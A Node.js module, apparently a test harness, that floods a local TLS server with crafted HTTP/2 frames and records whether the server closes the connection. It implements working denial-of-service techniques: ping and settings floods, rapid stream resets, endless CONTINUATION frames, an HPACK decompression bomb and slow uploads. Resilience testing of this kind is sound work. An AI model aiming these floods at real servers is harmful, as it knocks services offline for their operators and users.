// HTTP/2 frames that ask for nothing, over TLS, until the other side has had enough (RFC 9113 section 4.1).

import { connect } from "node:tls";
import { once } from "node:events";

const [DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION] = [0, 1, 3, 4, 6, 8, 9];
const [END_STREAM, END_HEADERS] = [1, 4];
const PORTION = 64;

function frame(kind, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(kind, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const OPENING = Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(SETTINGS, 0, 0), frame(SETTINGS, 1, 0)]);
const literal = (index, text) => Buffer.concat([Buffer.from([index, text.length]), Buffer.from(text)]);
const request = (host) => Buffer.concat([Buffer.from([0x82, 0x87]), literal(4, "/h"), literal(1, host)]);
const upload = (host) => Buffer.concat([Buffer.from([0x83, 0x87]), literal(4, "/b"), literal(1, host)]);
// A field of 4000 bytes that is kept in the table, and then named again with one byte each time.
const bomb = (host) =>
  Buffer.concat([request(host), Buffer.from([0x40, 1, 97, 0x7f, 0xa1, 0x1e]), Buffer.alloc(4000, 120), Buffer.alloc(10_000, 0xbe)]);

/** What each flood sends over and over; `turn` counts from 0. */
export const FLOODS = {
  "HTTP/2 pings": () => frame(PING, 0, 0, Buffer.alloc(8)),
  "HTTP/2 settings": () => frame(SETTINGS, 0, 0),
  "HTTP/2 windows": () => frame(WINDOW_UPDATE, 0, 0, Buffer.from([0, 0, 0, 1])),
  "HTTP/2 requests taken back": (turn, host) =>
    Buffer.concat([
      frame(HEADERS, END_HEADERS | END_STREAM, 2 * turn + 1, request(host)),
      frame(RST_STREAM, 0, 2 * turn + 1, Buffer.from([0, 0, 0, 8])),
    ]),
  "HTTP/2 endless heads": (turn, host) =>
    turn ? frame(CONTINUATION, 0, 1, Buffer.alloc(8000)) : frame(HEADERS, 0, 1, request(host)),
  "HTTP/2 heads that unpack": (turn, host) => frame(HEADERS, END_HEADERS | END_STREAM, 2 * turn + 1, bomb(host)),
  "HTTP/2 uploads of nothing": (turn, host) => (turn ? frame(DATA, 0, 1) : frame(HEADERS, END_HEADERS, 1, upload(host))),
  "HTTP/2 uploads in single bytes": (turn, host) =>
    turn ? frame(DATA, 0, 1, Buffer.from([97])) : frame(HEADERS, END_HEADERS, 1, upload(host)),
  "HTTP/2 streams left open": (turn, host) => frame(HEADERS, END_HEADERS, 2 * turn + 1, request(host)),
};

/** The beginning of a connection, and of a request that never gets further. */
export const halfHead = (host) => Buffer.concat([OPENING, frame(HEADERS, 0, 1, request(host))]);

/** Floods one connection; how many frames it had taken when it was closed. */
export async function flood(port, host, next, most = 1_000_000) {
  const socket = connect({ port, host: "127.0.0.1", servername: host, ALPNProtocols: ["h2"], rejectUnauthorized: false });
  let closed = false;
  const end = new Promise((done) => socket.on("close", () => done((closed = true))));
  socket.on("error", () => {}).resume();
  await once(socket, "secureConnect");
  socket.write(OPENING);
  let turn = 0;
  for (; turn < most && !closed; turn += PORTION) {
    const portion = Array.from({ length: PORTION }, (_, index) => next(turn + index, host));
    const taken = socket.write(Buffer.concat(portion));
    await Promise.race([end, taken ? new Promise(setImmediate) : once(socket, "drain").catch(() => {})]);
  }
  if (!closed) socket.destroy();
  return { closed, turn };
}
